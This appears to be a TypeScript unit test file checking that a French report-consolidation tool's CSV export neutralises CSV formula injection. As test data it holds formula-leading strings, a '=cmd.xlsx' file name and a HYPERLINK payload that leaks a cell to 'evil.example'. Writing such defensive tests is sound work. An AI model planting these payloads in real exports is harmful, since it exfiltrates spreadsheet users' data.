import { consolidate } from "../../../src/core/consolidate/consolidate";
import type { ConsolidationInput } from "../../../src/core/consolidate/types";
import { INDICATOR_KEYS, type Indicators } from "../../../src/core/model/indicators";
import { consolidationCsv, csvCell } from "../../../src/core/report/csv";
import { HOSTILE_NAME, csvRows } from "../../support/csv";

function ind(values: Partial<Indicators>): Indicators {
  const out = {} as Indicators;
  for (const k of INDICATOR_KEYS) out[k] = null;
  return { ...out, ...values };
}

function report(partial: Partial<ConsolidationInput>): ConsolidationInput {
  return {
    file: "bilan.xlsx",
    siret: "11111111111111",
    name: "Structure",
    kind: "ACI",
    valid: true,
    counts: { error: 0, warning: 0, info: 0 },
    personKeys: [],
    indicators: ind({ employees: 2 }),
    ...partial,
  };
}

describe("csvCell (OWASP CSV injection)", () => {
  it.each(["=1+1", "+33 6 12", "-2+3", "@SUM(A1)", "\tx", "\rx"])(
    "neutralises the text %j: leading quote, quoted field",
    (text) => {
      expect(csvCell(text)).toBe(`"'${text}"`);
    },
  );
  it("doubles the quotes of a neutralised text", () => {
    expect(csvCell(HOSTILE_NAME)).toBe(`"'=HYPERLINK(""http://evil.example/?leak=""&C3,""Jardins"")"`);
  });
  it("keeps numbers numbers, negative ones included, and leaves plain texts alone", () => {
    expect(csvCell(-3.5)).toBe("-3,5");
    expect(csvCell(-0.25, true)).toBe("-25 %");
    expect(csvCell("Jardins du Vercors")).toBe("Jardins du Vercors");
    expect(csvCell("a;b")).toBe('"a;b"');
    expect(csvCell("x=1")).toBe("x=1");
  });
});

describe("consolidationCsv", () => {
  it("writes a hostile « Raison sociale » and file name as inert text, every other cell unchanged", () => {
    const c = consolidate([
      report({ name: HOSTILE_NAME, file: "=cmd.xlsx" }),
      report({ siret: "22222222222222", name: "Sans risque" }),
    ]);
    const rows = csvRows(consolidationCsv(c));
    const head = rows[0];
    const hostile = rows.find((r) => r[head.indexOf("SIRET")] === "11111111111111") as string[];
    expect(hostile[head.indexOf("Raison sociale")]).toBe(`'${HOSTILE_NAME}`);
    expect(hostile[head.indexOf("Fichier")]).toBe("'=cmd.xlsx");
    // No cell of the file, once unquoted, starts like a formula except by being a number.
    for (const row of rows)
      for (const cell of row) if (/^[=+\-@\t\r]/.test(cell)) expect(cell).toMatch(/^-\d/);
    expect(
      rows.find((r) => r[head.indexOf("SIRET")] === "22222222222222")?.[head.indexOf("Raison sociale")],
    ).toBe("Sans risque");
  });
});
